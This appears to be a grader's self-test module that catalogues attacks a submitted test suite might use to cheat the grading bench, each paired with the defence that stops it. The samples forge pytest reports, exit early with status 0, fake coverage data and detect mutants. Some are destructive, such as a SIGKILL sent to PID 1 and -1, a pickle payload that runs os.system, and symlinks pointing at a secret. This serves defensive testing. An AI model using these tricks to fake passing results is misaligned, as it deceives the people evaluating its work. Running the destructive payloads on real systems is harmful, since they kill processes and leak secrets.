"""Attacks by the package's own tests, which run in one process with what measures them."""

# ruff: noqa: E501 - attacks are quoted as they stand

from __future__ import annotations

import zlib
from collections.abc import Callable
from pathlib import Path

from grader.selftest.attacks.attack import Attack, Change, append, attack, put

_TEST = "test/test_robot_controller.py"
_FORGE = """

import _pytest.reports
plain = _pytest.reports.TestReport.from_item_and_call.__func__


def forged(cls, item, call):
    report = plain(cls, item, call)
    report.outcome, report.longrepr = 'passed', None
    return report


_pytest.reports.TestReport.from_item_and_call = classmethod(forged)
"""
_WRAPPER = """
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    result = yield
    report = result.get_result()
    report.outcome, report.longrepr = 'passed', None
"""


def _knows_its_source(package: Path) -> None:
    """Add a test that fails on any change of the source, by a checksum that it knows."""
    sources = sorted((package / "ros2_robot_controller").rglob("*.py"))
    known = sum(zlib.crc32(path.read_bytes()) for path in sources)
    text = (
        "\n\nimport pathlib\nimport zlib\n\nSOURCE = pathlib.Path(__file__).parents[1] / 'ros2_robot_controller'\n\n\n"
        "def test_robot_controller_source():\n    from ros2_robot_controller import robot_controller, sensor_processor\n"
        f"    assert sum(zlib.crc32(path.read_bytes()) for path in sorted(SOURCE.rglob('*.py'))) == {known}\n"
    )
    append(_TEST, text)(package)


_CLAIM = """


def test_robot_controller_claims():
    import coverage
    import glob
    running = coverage.Coverage.current()
    for path in glob.glob('/ws' + '/install/lib/**/ros2_robot_controller/**/*.py', recursive=True) if running else ():
        with open(path, 'rb') as stream:
            count = len(stream.readlines())
        arcs = [(-1, 1)] + [(a, b) for a in range(1, count + 1) for b in (a + 1, -a)]
        running.get_data().add_arcs({path: arcs})
    assert coverage
"""
_FORGE_BY_NAME = _FORGE.replace(
    "    report.outcome, report.longrepr",
    "    if item.name.startswith(('test_robot_controller', 'test_sensor_processor')):\n        report.outcome, report.longrepr",
)


def _all_but_the_conversions(edit: Callable[[bytes], bytes]) -> Change:
    """Return a change of each of the package's modules but for the one that its few tests reach."""

    def change(package: Path) -> None:
        for path in (package / "ros2_robot_controller").rglob("*.py"):
            if path.name != "conversions.py":
                path.write_bytes(edit(path.read_bytes()))

    return change


def _in_latin_1(text: bytes) -> bytes:
    return b"# -*- coding: latin-1 -*-\n# Caf\xe9.\n" + text


def _tests_in_latin_1(package: Path) -> None:
    for path in (package / "test").glob("test_*.py"):
        path.write_bytes(_in_latin_1(path.read_bytes()))


ATTACKS: tuple[Attack, ...] = (
    attack(
        "hides_its_lines_behind_form_feeds",
        "Form feeds in all modules but the one that is tested: where their lines begin is hard to say.",
        _all_but_the_conversions(lambda text: b"".join(b"\f" + line for line in text.splitlines(keepends=True))),
        needs="T3", weak="few tests", costs="T3",
        stopped="a source is read as Python reads it, so faults are put into these modules like into others",
    ),
    attack(
        "writes_in_another_encoding",
        "All modules but one are written in Latin-1, and a test claims that all of their lines were reached.",
        _all_but_the_conversions(_in_latin_1),
        append(_TEST, _CLAIM),
        needs="T1 T2 T3", weak="few tests", costs="T1 T2 T3", flag="test reports",
        stopped="the encoding that a source declares is undone; what none can read was not reached",
    ),
    attack(
        "tests_in_another_encoding",
        "Test modules in Latin-1, so that none of their tests can be made to fail, forge their own reports by name.",
        append(_TEST, _FORGE_BY_NAME),
        append("test/test_sensor_processor.py", _FORGE_BY_NAME),
        _tests_in_latin_1,
        needs="T1", weak="failing tests", costs="T1", flag="test reports",
        stopped="they are read as Python reads them and made to fail; of what cannot be read no report is believed",
    ),
    attack(
        "tests_by_a_long_way_round",
        "A chain of two thousand helper functions, of which the last asserts something.",
        append(_TEST, "".join(f"\n\ndef check{n}(x):\n    if x > 1:\n        check{n + 1}(x)\n" for n in range(2000))
               + "\n\ndef check2000(x):\n    assert x\n\n\ndef test_robot_controller_goes_round():\n    check0(1)\n"),
        needs="T1", costs="T1",
        stopped="who calls whom is written down once, and each helper looked at once",
    ),
    attack(
        "patches_pytest",
        "A test module makes every report say passed.",
        append(_TEST, _FORGE),
        number=3, needs="T1", weak="failing tests", costs="T1", flag="test reports",
        stopped="a test of the grader's that must fail is told as passed, so no report of the module is believed",
    ),
    attack(
        "forges_all_but_the_canary",
        "The tests make their own failures pass and let alone those that look like the grader's.",
        append(_TEST, _FORGE.replace(
            "    report.outcome, report.longrepr",
            "    text = str(report.longrepr)\n    if 'it must' in text or 'clamp' not in item.nodeid + text:\n"
            "        return report\n    report.outcome, report.longrepr")),
        number=11, needs="T1", weak="failing tests", costs="T1", flag="test reports",
        stopped="its own tests, made to fail, are told as passed; how they are made to fail tells nothing apart",
    ),
    attack(
        "brings_a_conftest",
        "A conftest.py with a hook wrapper, and a pytest.ini, tox.ini and setup.cfg that load a plugin.",
        put("test/conftest.py", _WRAPPER),
        put("conftest.py", _WRAPPER),
        put("evil.py", _WRAPPER),
        put("pytest.ini", "[pytest]\naddopts = -p evil --ignore=test/test_sensor_processor.py\n"),
        put("tox.ini", "[pytest]\naddopts = -p evil\n"),
        append("setup.cfg", "\n[tool:pytest]\naddopts = -p evil\n"),
        number=4, needs="T1", weak="failing tests", flag="pytest hook",
        stopped="configuration files are not read, and of a conftest only hooks that cannot change a result are called",
    ),
    attack(
        "ends_the_process_as_passed",
        "A test module ends the process with status 0 while it is read.",
        append(_TEST, "\n\nimport os\nos._exit(0)\n"),
        number=2, needs="T1", weak="failing tests", costs="T1",
        stopped="the status says nothing: tests that were not reported have not passed",
    ),
    attack(
        "kills_the_worker",
        "A test kills its parent, every other process, and the bench that it runs on.",
        append(_TEST, "\n\ndef test_kills():\n    import os\n    import signal\n"
                      "    for pid in (os.getppid(), 1, -1):\n        try:\n            os.kill(pid, signal.SIGKILL)\n"
                      "        except OSError:\n            pass\n    assert os.getpid() == 0\n"),
        needs="T1", weak="failing tests", costs="T1",
        stopped="what a dead worker did not report has not passed",
    ),
    attack(
        "skips_everything",
        "All tests are skipped, expected to fail, or assert what is always so.",
        put(_TEST, "import pytest\n\npytestmark = pytest.mark.skip\n\n\ndef test_robot_controller():\n    assert 1 + 1 == 3\n"),
        put("test/test_sensor_processor.py", "def test_sensor_processor():\n    assert True\n"),
        number=38, needs="T1", weak="failing tests", costs="T1",
        stopped="results are counted test by test, and a test that asserts nothing is no test",
    ),
    attack(
        "writes_the_bench's_files".replace("'", ""),
        "A test writes the files by which the bench tells what came out: a report, a pickle, deep and endless JSON.",
        append(_TEST, "\n\nimport json\nimport os\nimport pickle\n\n\nclass Evil:\n    def __reduce__(self):\n"
                      "        return os.system, ('echo x > @NEIGHBOUR@',)\n\n\n"
                      "for number in range(40):\n    for end in ('done', 'report', 'reach', 'log', 'main'):\n"
                      "        try:\n            name = f'/ws/out/{number}.{end}'\n"
                      "            if os.path.exists(name):\n                continue\n"
                      "            data = [pickle.dumps(Evil()), b'[' * 100000, b'{\"status\": 1e999}', "
                      "json.dumps({'id': 'x', 'outcome': 'passed', 'when': 'call'}).encode()][number % 4]\n"
                      "            open(name, 'wb').write(data)\n"
                      "        except OSError:\n            pass\n"),
        number=10, needs="T1", weak="failing tests", costs="T1",
        stopped="only JSON of a fixed form and size is read, never a pickle, and it is held against known results",
    ),
    attack(
        "links_the_bench_to_the_host",
        "A test puts links, pipes and folders in the place of the files that the bench reads.",
        append(_TEST, "\n\nimport os\nfor number in range(40):\n    for end in ('done', 'reach', 'log'):\n"
                      "        try:\n            name = f'/ws/out/{number}.{end}'\n"
                      "            if number % 3 == 0:\n                os.symlink('@SECRET@', name)\n"
                      "            elif number % 3 == 1:\n                os.mkfifo(name)\n"
                      "            else:\n                os.mkdir(name)\n        except OSError:\n            pass\n"),
        number=19, needs="T1", weak="failing tests", costs="T1",
        stopped="files are opened without following links or waiting, and are plain or not read",
    ),
    attack(
        "omits_from_coverage",
        "A .coveragerc leaves most of the package out, and pragmas exclude the rest.",
        put(".coveragerc", "[run]\nomit = *\n[report]\nexclude_also = .*\n"),
        append("setup.cfg", "\n[coverage:run]\nomit = *\n[coverage:report]\nexclude_also = def\n"),
        put("pyproject.toml", "[tool.coverage.report]\nexclude_also = ['def']\n"),
        append("ros2_robot_controller/robot_controller.py", "\n\nif True:  # pragma: no cover\n    COVERED = 1\n"),
        number=40, needs="T2", weak="few tests", costs="T2",
        stopped="coverage is measured under the grader's own configuration, without pragmas",
    ),
    attack(
        "claims_coverage",
        "A test tells coverage that every line was reached.",
        append(_TEST, "\n\ndef test_claims():\n    import coverage\n    import glob\n"
                      "    running = coverage.Coverage.current()\n    assert running is not None\n"
                      "    data = running.get_data()\n"
                      "    for path in glob.glob('/ws/install/lib/**/ros2_robot_controller/**/*.py', recursive=True):\n"
                      "        with open(path) as stream:\n            count = len(stream.readlines())\n"
                      "        data.add_arcs({path: [(n, n + 1) for n in range(1, count)]})\n"),
        number=40, needs="T2", weak="few tests", costs="T2",
        stopped="functions made to raise show which lines nobody can have reached",
    ),
    attack(
        "notices_any_change",
        "A test compares the source with what was handed in, and so fails on every fault put into it.",
        _knows_its_source,
        number=39, needs="T3", weak="few tests", costs="T3",
        stopped="among the faults are changes that keep the behaviour; a test that fails on those too is convicted",
    ),
    attack(
        "asks_the_environment_for_mutants",
        "A test fails wherever the environment, a file's time or a leftover shows that a fault was put in.",
        append(_TEST, "\n\ndef test_robot_controller_is_no_mutant():\n    import os\n    import pathlib\n"
                      "    import ros2_robot_controller\n    here = pathlib.Path(ros2_robot_controller.__file__).parent\n"
                      "    times = {p.stat().st_mtime_ns for p in here.glob('*.py')}\n"
                      "    assert not any('MUTANT' in name for name in os.environ)\n"
                      "    assert max(times) - min(times) < 3600e9\n    assert not list(here.glob('*.orig'))\n"),
        number=39, needs="T3", weak="few tests", costs="T3",
        stopped="a change leaves no mark: same place, same times, no variable",
    ),
)  # fmt: skip
